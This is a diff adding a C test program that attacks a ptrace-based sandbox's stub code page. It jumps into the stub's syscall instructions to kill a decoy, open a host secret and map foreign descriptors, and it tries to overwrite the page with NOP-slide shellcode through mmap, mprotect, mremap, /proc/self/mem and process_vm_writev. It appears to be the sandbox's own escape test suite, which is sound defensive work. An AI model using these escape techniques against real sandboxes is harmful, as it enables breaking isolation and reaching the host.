@@ -1,0 +1,237 @@
+/* Attacks on the ptrace stub's code page, the one page of host code in
+ * every sandboxed address space (src/platform/ptrace/stub.S, mapped at
+ * kStubBase = 0x7fffffe00000). `stub jump` calls into its `syscall`
+ * instructions with registers of our choosing: kill(decoy, SIGKILL), open
+ * of the host secret, mmap of a descriptor we do not have (the stub keeps
+ * moat's memory file open), fork through the clone entry, the idle loop
+ * and the unmapping prologue. `stub overwrite` tries to replace the page
+ * (mmap, mprotect, munmap, mremap, brk, madvise, /proc/self/mem,
+ * process_vm_writev) with code that kills the decoy, and then makes moat
+ * inject calls, which run the page's code outside PTRACE_SYSEMU: if the
+ * page changed, that code would reach the host. Natively there is no stub,
+ * so nothing is found. */
+#include "escape.h"
+
+#include <setjmp.h>
+#include <stdint.h>
+#include <sys/mman.h>
+#include <sys/uio.h>
+#include <ucontext.h>
+
+#define STUB ((char*)0x7fffffe00000)
+#define PAGE 4096
+
+static sigjmp_buf fault_jump;
+static volatile int fault_signal;
+static volatile long fault_rax;
+
+static void on_fault(int sig, siginfo_t* info, void* context) {
+  ucontext_t* uc = context;
+  fault_signal = sig;
+  fault_rax = uc->uc_mcontext.gregs[REG_RAX];
+  siglongjmp(fault_jump, 1);
+}
+
+static void catch_faults(void) {
+  struct sigaction sa = {.sa_sigaction = on_fault,
+                         .sa_flags = SA_SIGINFO | SA_NODEFER};
+  int sigs[] = {SIGSEGV, SIGILL, SIGBUS, SIGTRAP, SIGALRM};
+  for (size_t i = 0; i < sizeof(sigs) / sizeof(*sigs); i++)
+    sigaction(sigs[i], &sa, NULL);
+}
+
+/* Copies the stub page into `out`; returns 0 when it is not readable. */
+static int read_stub(char* out) {
+  if (sigsetjmp(fault_jump, 1) != 0) return 0;
+  memcpy(out, STUB, PAGE);
+  return 1;
+}
+
+static long find(const char* page, const char* bytes, size_t n) {
+  for (size_t i = 0; i + n <= PAGE; i++)
+    if (memcmp(page + i, bytes, n) == 0) return (long)i;
+  return -1;
+}
+
+/* Jumps to `entry` with a system call's registers set. The stub's int3
+ * (or a fault) brings us back through on_fault; returns rax then, or
+ * -4096 - signal if the stop was something else. */
+static long stub_call(uintptr_t entry, long nr, long a, long b, long c,
+                      long d, long e, long f) {
+  fault_signal = 0;
+  if (sigsetjmp(fault_jump, 1) == 0) {
+    register long r10 asm("r10") = d;
+    register long r8 asm("r8") = e;
+    register long r9 asm("r9") = f;
+    asm volatile("call *%[entry]"
+                 :
+                 : [entry] "r"(entry), "a"(nr), "D"(a), "S"(b), "d"(c),
+                   "r"(r10), "r"(r8), "r"(r9)
+                 : "rcx", "r11", "memory");
+    return -9999;
+  }
+  return fault_signal == SIGTRAP ? fault_rax : -4096 - fault_signal;
+}
+
+static void show_maps(void) {
+  FILE* maps = fopen("/proc/self/maps", "r");
+  char line[512];
+  int shown = 0;
+  while (maps != NULL && fgets(line, sizeof(line), maps) != NULL) {
+    if (strncmp(line, "7fffffe", 7) == 0 || strstr(line, "[vsyscall]")) {
+      note("maps: %s", strtok(line, "\n"));
+      shown = 1;
+    }
+  }
+  if (maps != NULL) fclose(maps);
+  if (!shown) note("/proc/self/maps does not show the stub page");
+}
+
+static void op_jump(void) {
+  char page[PAGE];
+  show_maps();
+  if (!read_stub(page)) {
+    note("no readable page at %p (signal %d)", STUB, fault_signal);
+    return;
+  }
+  long sys = find(page, "\x0f\x05\xcc", 3);
+  long clone = find(page, "\x0f\x05\x48\x85\xc0\x74", 6);
+  long wait = find(page, "\xb8\x22\x00\x00\x00\x0f\x05", 7);
+  note("stub page found: syscall;int3 at +%#lx, clone at +%#lx, idle at "
+       "+%#lx", sys, clone, wait);
+  if (sys < 0) return;
+  uintptr_t entry = (uintptr_t)STUB + sys;
+  pid_t decoy = decoy_pid();
+  long r = stub_call(entry, SYS_getpid, 0, 0, 0, 0, 0, 0);
+  note("getpid through the stub: %ld (getpid() %d)", r, getpid());
+  r = stub_call(entry, SYS_kill, decoy, SIGKILL, 0, 0, 0, 0);
+  note("kill(decoy %d, SIGKILL) through the stub: %ld", decoy, r);
+  r = stub_call(entry, SYS_open, (long)secret_path(), O_RDONLY, 0, 0, 0, 0);
+  note("open(secret) through the stub: %ld", r);
+  if (r >= 0 && fd_is_secret((int)r)) escaped("opened the secret via the stub");
+  for (int fd = 3; fd < 16; fd++) {
+    if (fcntl(fd, F_GETFD) >= 0) continue;  /* ours */
+    for (long off = 0; off < (1l << 30); off += (64l << 20)) {
+      r = stub_call(entry, SYS_mmap, 0, PAGE, PROT_READ, MAP_SHARED, fd, off);
+      if (r >= 0 || r < -4095) {
+        escaped("mmap of fd %d (not ours) at offset %#lx via the stub: %#lx",
+                fd, off, r);
+        break;
+      }
+    }
+  }
+  if (clone >= 0) {
+    r = stub_call((uintptr_t)STUB + clone, SYS_clone, SIGCHLD, 0, 0, 0, 0, 0);
+    note("fork through the stub's clone entry: %ld", r);
+    if (r > 0) {
+      kill((pid_t)r, SIGKILL);
+      waitpid((pid_t)r, NULL, 0);
+    }
+  }
+  if (wait >= 0) {
+    alarm(1);
+    r = stub_call((uintptr_t)STUB + wait, 0, 0, 0, 0, 0, 0, 0);
+    note("the stub's idle loop ended with %ld", r);
+  }
+  /* The prologue unmaps everything below and above the stub and then
+   * idles in pause(); the alarm ends the child. */
+  pid_t child = fork();
+  if (child == 0) {
+    signal(SIGALRM, SIG_DFL);
+    alarm(1);
+    stub_call((uintptr_t)STUB, 0, 0, 0, 0, 0, 0, 0);
+    _exit(3);
+  }
+  int status;
+  waitpid(child, &status, 0);
+  note("the stub's prologue in a child: status %#x", status);
+}
+
+/* Code that kills the decoy: a NOP slide over the page up to it, so that
+ * any entry into the page runs it. */
+static void make_payload(char* page) {
+  memset(page, 0x90, PAGE);
+  unsigned char tail[] = {0xb8, 62, 0, 0, 0,       /* mov $62, %eax */
+                          0xbf, 0, 0, 0, 0,        /* mov $decoy, %edi */
+                          0xbe, 9, 0, 0, 0,        /* mov $9, %esi */
+                          0x0f, 0x05, 0xcc, 0xcc}; /* syscall; int3 */
+  uint32_t decoy = (uint32_t)decoy_pid();
+  memcpy(tail + 6, &decoy, 4);
+  memcpy(page + PAGE - 64, tail, sizeof(tail));
+}
+
+static void try_write(const char* how, const char* payload) {
+  if (sigsetjmp(fault_jump, 1) == 0) {
+    memcpy(STUB, payload, PAGE);
+    note("%s: the page took our bytes", how);
+  }
+}
+
+static void op_overwrite(void) {
+  char orig[PAGE], now[PAGE], payload[PAGE];
+  int had_stub = read_stub(orig);
+  make_payload(payload);
+  void* p;
+  p = mmap(STUB, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
+           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+  note("mmap MAP_FIXED over the stub: %s", p == MAP_FAILED ? strerror(errno)
+                                                           : "mapped");
+  if (p != MAP_FAILED) try_write("after mmap", payload);
+  p = mmap(STUB - PAGE, 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
+           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+  if (p != MAP_FAILED) try_write("after a straddling mmap", payload);
+  if (mprotect(STUB, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC) == 0)
+    try_write("after mprotect", payload);
+  if (mprotect(STUB - PAGE, 2 * PAGE, PROT_READ | PROT_WRITE) == 0)
+    try_write("after a straddling mprotect", payload);
+  char* low = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
+                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  memcpy(low, payload, PAGE);
+  p = mremap(low, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, STUB);
+  note("mremap onto the stub: %s", p == MAP_FAILED ? strerror(errno) : "ok");
+  note("munmap of the stub: %s",
+       munmap(STUB, PAGE) == 0 ? "ok" : strerror(errno));
+  madvise(STUB, PAGE, MADV_DONTNEED);
+  void* top = (void*)syscall(SYS_brk, STUB + 2 * PAGE);
+  note("brk to past the stub: %p", top);
+  int mem = open("/proc/self/mem", O_RDWR);
+  if (mem >= 0) {
+    ssize_t n = pwrite(mem, payload, PAGE, (off_t)(uintptr_t)STUB);
+    note("/proc/self/mem write: %zd (%s)", n, n < 0 ? strerror(errno) : "");
+    close(mem);
+  }
+  struct iovec local = {payload, PAGE}, remote = {STUB, PAGE};
+  ssize_t n = process_vm_writev(getpid(), &local, 1, &remote, 1, 0);
+  note("process_vm_writev: %zd", n);
+
+  /* Make moat inject mmap, mprotect, munmap and clone. */
+  char* fresh = mmap(NULL, 16 * PAGE, PROT_READ | PROT_WRITE,
+                     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  fresh[0] = 1;
+  mprotect(fresh, PAGE, PROT_READ);
+  munmap(fresh, 16 * PAGE);
+  pid_t child = fork();
+  if (child == 0) _exit(0);
+  waitpid(child, NULL, 0);
+
+  if (had_stub) {
+    if (!read_stub(now))
+      note("the stub page is gone (signal %d)", fault_signal);
+    else if (memcmp(orig, now, PAGE) != 0)
+      escaped("the stub page's code changed");
+    else
+      note("the stub page is unchanged");
+  }
+}
+
+int main(int argc, char** argv) {
+  catch_faults();
+  const char* op = argc > 1 ? argv[1] : "";
+  if (strcmp(op, "jump") == 0)
+    op_jump();
+  else if (strcmp(op, "overwrite") == 0)
+    op_overwrite();
+  else
+    broken("usage: stub jump|overwrite");
+  return escape_finish();
+}
